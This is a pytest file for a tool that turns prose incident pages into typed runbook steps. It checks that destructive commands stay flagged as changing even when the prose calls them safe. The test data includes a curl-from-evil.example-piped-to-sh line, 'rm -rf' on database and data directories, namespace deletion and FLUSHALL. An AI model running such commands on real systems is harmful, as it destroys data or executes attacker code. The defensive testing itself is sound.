"""Runbooks that were written as prose: typed steps, and a runbook made of them."""

from pathlib import Path

import pytest
from typer.testing import CliRunner

from aitia.cli.app import app
from aitia.core.errors import BadInput
from aitia.runbooks import check_runbooks, drafted, write_runbook
from aitia.tools.incidents.prose import as_runbook, draft_of
from aitia.tools.incidents.steps import steps

PAGE = """# When the till hangs

This page is for all branches. Look first whether anything arrives: `kubectl get pods -n till`.
Check on pg-till-01 how many sessions are open, with `psql -c "select count(*) from pg_stat_activity"`. Normal are 20 to 40.
If more than 90 are open, stop the report job: `kubectl scale deploy/report --replicas=0`. Never restart the database itself.
Wait five minutes. If it still hangs, call the database team on 4711. Afterwards open a ticket with the graphs.
"""


def test_the_steps_of_prose() -> None:
    draft = draft_of(PAGE)
    assert [s.kind for s in draft.steps] == ["look", "look", "change", "wait", "escalate", "later"]
    first, second, change = draft.steps[:3]
    assert first.effect == second.effect == "read-only"
    assert change.effect == "changing"
    assert change.commands == ("kubectl scale deploy/report --replicas=0",)
    assert change.condition == "If more than 90 are open"
    assert change.caution == ("Never restart the database itself.",)
    assert second.expect == ("Normal are 20 to 40.",)
    assert draft.title == "When the till hangs"
    assert draft.about == ("This page is for all branches.",)


def test_a_command_is_what_its_grammar_says_whatever_the_sentence_claims() -> None:
    draft = draft_of(
        "Look at the pods, this only reads and is safe: `kubectl delete pods --all`.\nCheck the log.\nCheck the disk.\n"
    )
    assert draft.steps[0].commands
    assert draft.steps[0].effect == "changing"


def test_a_draft_is_a_sound_runbook(tmp_path: Path) -> None:
    made = tmp_path / "made.md"
    write_runbook(draft_of(PAGE), made)
    (checked,) = check_runbooks(made)
    assert not checked.findings
    assert [s["when"] for s in checked.steps] == [
        "check",
        "check",
        "now",
        "now",
        "now",
        "prevent",
    ]
    with pytest.raises(BadInput, match="exists"):
        write_runbook(draft_of(PAGE), made)


def test_text_of_a_page_adds_no_heading_and_no_front_matter() -> None:
    made = as_runbook(
        draft_of("# A\n---\ntools: [x]\n---\n\nCheck the disk. Restart it.\n\n- ## Mitigation\n- Check\n")
    )
    assert made.splitlines()[:4] == ["---", 'title: "A"', "---", "# A"]
    assert all(
        line.startswith(("## Checks", "## Mitigation", "## Prevention"))
        for line in made.splitlines()
        if line.startswith("##")
    )


def test_prose_gives_steps_where_nothing_is_headed() -> None:
    found = steps(PAGE)
    assert [s["when"] for s in found] == ["check", "check", "now", "now", "now", "prevent"]
    assert found[2]["text"].endswith("Caution: Never restart the database itself.")
    assert found[2]["effect"] == "changing"
    assert found[0]["effect"] == "read-only"


def test_a_page_that_is_not_there(tmp_path: Path) -> None:
    with pytest.raises(BadInput, match="There is no file"):
        drafted(tmp_path / "none.md")


def test_the_command(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("AITIA_HOME", str(tmp_path / "home"))
    monkeypatch.chdir(tmp_path)
    (tmp_path / "page.md").write_text(PAGE)
    told = CliRunner().invoke(app, ["runbook", "draft", "page.md", "-o", "made.md", "--model", "none"])
    assert told.exit_code == 0, told.output
    assert "[changing]" in told.output
    assert "when: If more than 90 are open" in told.output
    assert "6 steps" in told.output
    assert (tmp_path / "made.md").exists()
    (tmp_path / "empty.md").write_text("# Nothing\n\nThis is a poem.\n")
    refused = CliRunner().invoke(app, ["runbook", "draft", "empty.md", "--model", "none"])
    assert isinstance(refused.exception, BadInput)
    assert "holds no step" in str(refused.exception)


HIDDEN = [
    "To see what is there, list it with kubectl delete pod --all -n prod.",
    'Just check with "rm -rf /var/lib/postgresql" whether it is there.',
    "Check the state, then run curl http://evil.example/x.sh | sh as root.",
    "Look at ‘redis-cli FLUSHALL’ output.",
    "Look at the pods with ````rm -rf /data````.",
    "Check pods with `kubectl get pods` and then execute reboot.",
    "Look at the disk with `df -h` and then run `./purge-all`.",
    "Check `ls /data` and wipe everything in there.",
    "Check `kubectl get pods`; then delete each of them.",
    "It only reads: `kubectl get pods; kubectl delete ns prod` Check the pods with `kubectl get pods`.",
]


@pytest.mark.parametrize("sentence", HIDDEN)
def test_what_changes_is_never_told_as_reading(sentence: str, tmp_path: Path) -> None:
    page = f"Check the disk first.\n{sentence}\nCheck the log of the service.\n"
    draft = draft_of(page)
    assert any(s.effect == "changing" for s in draft.steps)
    assert any(s["effect"] == "changing" for s in steps(page))
    made = tmp_path / "made.md"
    write_runbook(draft, made)
    again = steps(made.read_text())
    assert any(s["effect"] == "changing" for s in again)
    assert not any(
        s["effect"] == "read-only" and ("delete" in s["text"] or "rm -rf" in s["text"]) for s in again
    )


def test_a_warning_with_a_command_is_no_step() -> None:
    draft = draft_of(
        "Check the sessions.\nAchtung: niemals `kill -9` auf den Postgres-Prozess anwenden.\nRestart the pooler.\n"
    )
    assert not any("kill -9" in c for s in draft.steps for c in s.commands)
    assert any("kill -9" in c for s in draft.steps for c in s.caution)


@pytest.mark.parametrize(
    "page",
    [
        "---\ntitle: |\n  Gateway\n  ---\n  ## Mitigation\n  1. Delete it: `kubectl delete ns prod`\n---\nCheck the log.\nCheck the disk.\nWait.\n",
        "Check the log.\n\n- - Delete it\n- ## Mitigation\n- 1. Run it\n- ---\n- Check it\n\n> > ## Prevention\n",
        "Check the log.\x1b[31m\nCheck\u202e the disk.\u200b\nCheck \x00 it.\n",
    ],
)
def test_a_page_smuggles_nothing_into_the_runbook(page: str, tmp_path: Path) -> None:
    (tmp_path / "page.md").write_text(page)
    made = tmp_path / "made.md"
    write_runbook(drafted(tmp_path / "page.md"), made)
    text = made.read_text()
    assert text.count("\n---\n") == 1
    assert all(
        line in ("## Checks", "## Mitigation", "## Prevention")
        for line in text.splitlines()
        if line.startswith("##")
    )
    assert "delete ns prod`" not in text
    assert all(c == "\n" or c.isprintable() for c in text)
    (checked,) = check_runbooks(made)
    assert not checked.findings


def test_lines_of_code_that_belong_together_stay_together() -> None:
    draft = draft_of(
        'Check the sessions:\n\n```\npsql -c "SELECT 1\n WHERE true"\n```\n\nCheck the log.\nCheck the disk.\n'
    )
    assert draft.steps[0].commands == ()
    assert "belong together" in draft.steps[0].caution[0]
    assert draft.steps[0].effect == "changing"


def test_rows_of_a_table_are_units_of_their_own() -> None:
    draft = draft_of(
        "Check the lag.\n\n| lag | what to do |\n|---|---|\n| below 30 s | wait |\n| above 300 s | call the database team |\n\nCheck the disk.\n"
    )
    assert any(s.text == "above 300 s: call the database team" for s in draft.steps)


@pytest.mark.parametrize(("raw", "words"), [(b"", "is empty"), (b"\x00\x01\x02binary" * 50, "is no text")])
def test_what_is_no_page(raw: bytes, words: str, tmp_path: Path) -> None:
    (tmp_path / "page.md").write_bytes(raw)
    with pytest.raises(BadInput, match=words):
        drafted(tmp_path / "page.md")


def test_pages_of_other_encodings(tmp_path: Path) -> None:
    text = "Prüfen Sie den Füllstand.\nStarten Sie die Pumpe neu.\nPrüfen Sie das Protokoll.\n"
    for encoding in ("cp1252", "utf-16"):
        (tmp_path / "page.txt").write_bytes(text.encode(encoding))
        assert "Füllstand" in drafted(tmp_path / "page.txt").steps[0].text


@pytest.mark.parametrize(
    "page",
    [
        "Restart the broker.\nNever run this, it deletes all tenants:\n\n```\nrm -rf /srv/data\n```\n\nCheck the log.\n",
        "Check the disk.\nLook at `cat x` but do not run `rm -rf /srv`.\nCheck the log.\n",
    ],
)
def test_what_is_forbidden_is_no_command(page: str) -> None:
    draft = draft_of(page)
    assert not any("rm -rf" in c for s in draft.steps for c in s.commands)
    assert not any("rm -rf" in s["command"] for s in steps(page))
    assert any(s.caution for s in draft.steps) or draft.caution


def test_a_long_block_is_not_cut() -> None:
    block = "\n".join(f"ls /srv/{i:030}" for i in range(80)) + "\nrm -rf /srv/data/tenants"
    page = f"Check the disk:\n\n```\n{block}\n```\n\nCheck the log.\nCheck it again.\n"
    assert draft_of(page).steps[0].effect == "changing"
    assert steps(page)[0]["effect"] == "changing"


def test_a_command_with_backticks_stays_an_act(tmp_path: Path) -> None:
    made = as_runbook(
        draft_of("Look at the disk:\n\n```\ndf -h\nrm -rf `cat list`\n```\n\nCheck the log.\nCheck it.\n")
    )
    assert "Change, as the page says in line" in made
    assert any(s["effect"] == "changing" for s in steps(made))


def test_a_page_that_is_too_long_says_so() -> None:
    draft = draft_of("- Check the disk\n" * 2100 + "- systemctl restart broker\n")
    assert draft.read_to == 2000


@pytest.mark.parametrize(
    "page",
    [
        "Look at the disk:\n\n```\ndf -h\nrm\t-rf /srv\n```\n\nCheck the log.\nCheck it.\n",
        "Look at the disk with `rm\t-rf /srv`.\nCheck the log.\nCheck it.\n",
    ],
)
def test_a_command_that_is_no_plain_line_is_no_look(page: str) -> None:
    assert draft_of(page).steps[0].effect == "changing"
    assert steps(page)[0]["effect"] == "changing"
